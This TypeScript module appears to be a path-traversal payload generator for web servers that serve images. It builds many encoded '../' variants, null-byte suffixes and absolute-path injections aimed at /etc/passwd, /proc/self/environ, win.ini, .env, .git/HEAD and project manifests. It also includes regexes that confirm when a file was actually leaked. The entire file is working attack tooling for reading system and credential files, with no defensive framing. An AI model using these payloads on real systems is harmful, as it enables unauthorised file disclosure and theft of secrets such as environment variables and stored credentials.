/** An address that leads out of the folder of a picture where a server resolves it, and to which file. */
export interface Walk {
  target: string
  file: string
}

/** A step up, as servers and the frameworks in front of them read it at once or after decoding once more. */
const STEPS = [
  '../',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '.%2e/',
  '%252e%252e%252f',
  '..%252f',
  '%25252e%25252e%25252f',
  '..\\',
  '..%5c',
  '%2e%2e%5c',
  '..%255c',
  '....//',
  '..;/',
  '..//',
  '%c0%ae%c0%ae/',
  '%c0%ae%c0%ae%c0%af',
  '%u002e%u002e%u2215',
]
/** Steps with which files near the pictures are tried, each at several depths. */
const SHORT_STEPS = ['../', '..%2f', '%2e%2e%2f', '%252e%252e%252f', '..\\', '....//']

/** Deeper than any folder: what is above the top is the top. */
const DEEP = 16
const NEAR = [1, 2, 3, 4, 5]

/** Files that systems and projects have, each known by its content. */
const FILES: Readonly<Record<string, RegExp>> = {
  'etc/passwd': /^root:[^\n]*:0:0:/m,
  'proc/self/environ': /(^|\0)PATH=/,
  'windows/win.ini': /^\[(fonts|extensions|mci extensions)\]/im,
  'package.json': /^\s*\{[^<]*"(name|private|version|dependencies)"\s*:/,
  'composer.json': /^\s*\{[^<]*"(name|require|autoload)"\s*:/,
  '.env': /^[A-Z][A-Z0-9_]*=/m,
  '.git/HEAD': /^(ref: refs\/|[0-9a-f]{40}\s*$)/,
}
const SYSTEM = ['etc/passwd', 'proc/self/environ', 'windows/win.ini']
const PROJECT = ['package.json', 'composer.json', '.env', '.git/HEAD']

/** Whether the content is that of the file, and no page that a site shows for any address. */
export const reached = (file: string, bytes: Buffer): boolean =>
  FILES[file]?.test(bytes.toString('latin1')) ?? false

/** Every path traversal from a picture's address: next to it, below it, and in each value of its query. */
export function walks(url: string): Walk[] {
  const [path = '', query] = url.split('?')
  const folder = path.replace(/[^/]*$/, '')
  const end = /\.[a-z]+$/.exec(path)?.[0] ?? ''
  const ways = [...outside(end), ...near(end)]
  const kept = query === undefined ? '' : `?${query}`
  return [
    ...[folder, `${path}/`].flatMap((begin) =>
      ways.map(({ target, file }) => ({ target: `${begin}${target}${kept}`, file })),
    ),
    ...(query === undefined ? [] : query.split('&')).flatMap((pair, index, pairs) => {
      const [name = ''] = pair.split('=')
      return ways
        .filter(({ file }) => file === 'etc/passwd' || file === 'windows/win.ini')
        .map(({ target, file }) => {
          const values = pairs.with(index, `${name}=${target}`)
          return { target: `${path}?${values.join('&')}`, file }
        })
    }),
  ]
}

/** A file's path in the notation of a step. */
const written = (file: string, step: string): string => {
  const slash = /[/\\]$|%(25)*(2f|5c)$/i.exec(step)?.[0] ?? '/'
  return file.replaceAll('/', () => slash)
}

/** What is appended for servers that append an ending, take one off, or stop at a zero. */
const endings = (end: string) => [...new Set(['', end, `%00${end}`])]

function outside(end: string): Walk[] {
  return SYSTEM.flatMap((file) => [
    ...STEPS.flatMap((step) =>
      endings(end).map((tail) => ({
        target: `${step.repeat(DEEP)}${written(file, step)}${tail}`,
        file,
      })),
    ),
    // Absolute paths, as a careless `join` or `resolve` takes them.
    ...[`/${file}`, `%2f${written(file, '%2f')}`, `file:///${file}`, `c:/${file}`].flatMap(
      (target) => endings(end).map((tail) => ({ target: `${target}${tail}`, file })),
    ),
  ])
}

function near(end: string): Walk[] {
  return PROJECT.flatMap((file) =>
    SHORT_STEPS.flatMap((step) =>
      NEAR.flatMap((depth) =>
        [...new Set(['', end])].map((tail) => ({
          target: `${step.repeat(depth)}${written(file, step)}${tail}`,
          file,
        })),
      ),
    ),
  )
}
